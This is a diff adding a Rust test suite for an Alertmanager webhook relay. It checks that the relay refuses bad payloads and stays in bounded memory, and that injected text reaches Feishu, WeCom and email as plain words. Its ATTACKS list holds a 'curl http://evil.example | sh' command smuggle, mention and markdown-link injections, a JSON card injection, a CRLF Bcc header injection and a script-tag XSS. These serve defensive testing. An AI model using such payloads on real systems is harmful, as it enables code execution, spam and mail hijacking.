@@ -1,0 +1,212 @@
+//! Bad input: what is not Alertmanager's is refused with a sentence and in bounded memory; what only looks odd is taken;
+//! what means harm arrives as words.
+
+use serde_json::{Value, json};
+
+use crate::support::alerts::{PENDING, builtin, in_group, one_alert, webhook};
+use crate::support::feishu::mentions;
+use crate::support::service::{Home, Service};
+use crate::support::team::Team;
+
+async fn silent() -> (Home, Service) {
+    let home = Home::new(&json!({"channels": []}));
+    let service = home.serve().await;
+    (home, service)
+}
+
+fn with(change: impl FnOnce(&mut Value)) -> Value {
+    let mut body = webhook(PENDING);
+    change(&mut body);
+    body
+}
+
+/// A name, a body, and what its refusal says.
+fn refused() -> Vec<(&'static str, Vec<u8>, u16, &'static str)> {
+    let many = |count: usize| {
+        with(|body| {
+            let alert = body["alerts"][0].clone();
+            body["alerts"] = Value::Array(vec![alert; count]);
+        })
+    };
+    let text = webhook(PENDING).to_string();
+    let twice = text.replacen("\"version\":\"4\"", "\"version\":\"4\",\"version\":\"4\"", 1);
+    assert_ne!(text, twice);
+    vec![
+        ("nothing", Vec::new(), 400, "JSON"),
+        ("broken", text[..text.len() - 9].into(), 400, "JSON"),
+        ("two bodies", format!("{text}{text}").into(), 400, "JSON"),
+        ("an empty object", b"{}".into(), 400, "payload"),
+        ("a list", b"[]".into(), 400, "a list"),
+        ("a number", b"17".into(), 400, "number"),
+        ("a custom payload", br#"{"text": "KubePodNotReady", "channel": "ops"}"#.into(), 400, "payload"),
+        ("a PagerDuty event", br#"{"routing_key": "x", "event_action": "trigger"}"#.into(), 400, "payload"),
+        ("version 1", with(|body| body["version"] = "1".into()).to_string().into(), 400, "version"),
+        ("no alerts", with(|body| body["alerts"] = json!([])).to_string().into(), 400, "alerts"),
+        (
+            "a wrong type",
+            with(|body| body["alerts"][1]["labels"] = 5.into()).to_string().into(),
+            400,
+            "alerts[1].labels",
+        ),
+        ("a key twice", twice.into(), 400, "version"),
+        ("invalid UTF-8", [b"{\"version\":\"4\",\"x\":\"".as_slice(), &[0xff, 0xfe], b"\"}"].concat(), 400, "UTF-8"),
+        ("UTF-16", text.encode_utf16().flat_map(u16::to_le_bytes).collect(), 400, "JSON"),
+        ("depth", "[".repeat(100_000).into(), 400, "list"),
+        ("depth in a field nobody knows", format!("{{\"x\":{}", "[".repeat(100_000)).into(), 400, "JSON"),
+        ("depth of objects", "{\"alerts\":[{\"labels\":".repeat(30_000).into(), 400, "labels"),
+        ("10 000 alerts", many(10_000).to_string().into(), 413, "max_alerts"),
+        ("10 MB", with(|body| body["x"] = "x".repeat(10 << 20).into()).to_string().into(), 413, "max_body_bytes"),
+    ]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_is_not_alertmanagers_is_refused_with_a_sentence() {
+    let (_home, service) = silent().await;
+    for (name, body, status, says) in refused() {
+        let (answered, answer) = service.post(body).await;
+        let error = answer["error"].as_str().unwrap_or_else(|| panic!("{name}: {answer}"));
+        assert_eq!(answered, status, "{name}: {error}");
+        assert!(error.contains(says), "{name}: {error:?} does not say {says:?}");
+        assert!(!error.contains('\n') && (20..400).contains(&error.len()), "{name}: one sentence: {error:?}");
+        assert_eq!(answer.as_object().unwrap().len(), 1, "{name}: {answer}");
+    }
+    assert!(service.incidents().await.is_empty());
+    assert_eq!(service.get("/readyz").await["ready"], true);
+    assert!(!service.log().contains("panicked"), "{}", service.log());
+}
+
+/// Resident memory of a process in MiB.
+fn resident(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let line = status.lines().find(|line| line.starts_with("VmRSS:")).unwrap();
+    line.split_whitespace().nth(1).unwrap().parse::<u64>().unwrap() / 1024
+}
+
+#[cfg(target_os = "linux")]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn refusing_takes_bounded_memory() {
+    let (_home, service) = silent().await;
+    let heaviest: Vec<_> = refused().into_iter().filter(|(_, body, ..)| body.len() > 90_000).collect();
+    assert!(heaviest.len() >= 5);
+    let round = async || {
+        let posts = heaviest.iter().map(|(_, body, ..)| service.post(body.clone()));
+        futures::future::join_all(posts).await
+    };
+    let mut sizes = vec![resident(service.pid())];
+    for _ in 0..12 {
+        round().await;
+        sizes.push(resident(service.pid()));
+    }
+    let (settled, end) = (sizes[6], sizes[12]);
+    assert!(end < settled + 30 && end < 250, "MiB resident after each round: {sizes:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_only_looks_odd_is_taken() {
+    let (_home, service) = silent().await;
+    let group = |name: &str, change: &dyn Fn(&mut Value)| {
+        let mut body = in_group(PENDING, name);
+        change(&mut body);
+        body
+    };
+    let bodies = [
+        group("null maps", &|body| {
+            for key in ["groupLabels", "commonLabels", "commonAnnotations"] {
+                body[key] = Value::Null;
+            }
+            body["alerts"][0]["annotations"] = Value::Null;
+        }),
+        group("unknown fields", &|body| {
+            body["tomorrow"] = json!({"a": [1, {"b": null}]});
+            body["alerts"][0]["tomorrow"] = json!(1.5e300);
+        }),
+        group("reason", &|body| body["notification_reason"] = "group interval elapsed".into()),
+        group("truncated", &|body| body["truncatedAlerts"] = 4711.into()),
+        group("escaped receiver", &|body| body["receiver"] = "team\\/ops \"1\" \\u4e2d".into()),
+        group("mixed", &|body| {
+            body["alerts"][0]["status"] = "resolved".into();
+            body["alerts"][0]["endsAt"] = "2026-11-23T03:00:00Z".into();
+        }),
+        group("long texts", &|body| body["alerts"][0]["annotations"]["description"] = "长".repeat(200_000).into()),
+        group("no fingerprints", &|body| {
+            for alert in body["alerts"].as_array_mut().unwrap() {
+                alert.as_object_mut().unwrap().remove("fingerprint");
+            }
+        }),
+    ];
+    for body in &bodies {
+        let (_, decision) = service.accept(body).await;
+        assert_eq!(decision, "opened", "{}", body["groupKey"]);
+    }
+    assert_eq!(service.incidents().await.len(), bodies.len());
+}
+
+const ATTACKS: [&str; 10] = [
+    "x; curl http://evil.example | sh",
+    "<at user_id=\"all\"></at>",
+    "<at id=all></at> <AT ID=all>",
+    "<@all> @all <@userid>",
+    "[click](http://evil.example) ![x](http://evil.example/x.png)",
+    "<font color='warning'>x</font>",
+    "\"},{\"tag\":\"action\",\"actions\":[]},{\"a\":\"",
+    "${HOME} {{ 7*7 }} {% raw %}",
+    "nul \u{0} \r\nBcc: victim@evil.example",
+    "</script><script>alert(1)</script>\n# heading\n```",
+];
+
+fn attack(index: usize, text: &str) -> Value {
+    let mut body = one_alert(
+        &format!("attack {index}"),
+        &json!({"alertname": text, "namespace": text, "pod": text, "team": text}),
+    );
+    body["alerts"][0]["annotations"] = json!({"summary": text, "description": text, "runbook_url": text});
+    body["alerts"][0]["generatorURL"] = text.into();
+    body["externalURL"] = text.into();
+    body
+}
+
+/// Markdown without what it shows as it stands.
+fn outside_code(markdown: &str) -> String {
+    regex::Regex::new("`[^`]*`").unwrap().replace_all(markdown, "").into_owned()
+}
+
+fn assert_harmless(team: &Team) {
+    for card in team.feishu.accepted() {
+        let text = card.to_string();
+        assert!(!mentions(&card), "{text}");
+        assert!(!text.contains("\"tag\":\"action\""), "{text}");
+        assert!(!outside_code(&text).contains("](http://evil"), "{text}");
+    }
+    for message in team.wecom.accepted() {
+        let text = message.to_string();
+        assert!(!text.contains("<@") && !text.contains("mentioned_list"), "{text}");
+        assert!(!outside_code(&text).contains("](http://evil") && !text.contains("<font"), "{text}");
+    }
+    for mail in team.mail.received(0) {
+        let html = mail.html.as_deref().unwrap();
+        assert!(!html.contains("<script") && !html.contains("<img") && !html.contains("href=\"http://evil"), "{html}");
+        assert!(mail.headers.iter().all(|(name, _)| name != "Bcc"), "{:?}", mail.headers);
+        assert_eq!(mail.to, ["sre@example.com"]);
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_means_harm_arrives_as_words() {
+    let team = Team::start().await;
+    let home = Home::new(&json!({"channels": team.channels(), "mcp": builtin(PENDING)}));
+    let service = home.serve().await;
+    for (index, text) in ATTACKS.iter().enumerate() {
+        let (id, _) = service.accept(&attack(index, text)).await;
+        let incident = service.settled(&id, 30).await;
+        let notices = incident["notices"].as_array().unwrap();
+        assert!(notices.iter().all(|notice| notice["state"] == "sent"), "{text}: {incident:#}");
+        assert!(
+            notices.iter().all(|notice| notice["form"] == "full"),
+            "{text}: {:?} {notices:#?}",
+            team.feishu.refused()
+        );
+    }
+    assert!(team.counts().iter().all(|count| *count >= ATTACKS.len()), "{:?}", team.counts());
+    team.refused_nothing();
+    assert_harmless(&team);
+}
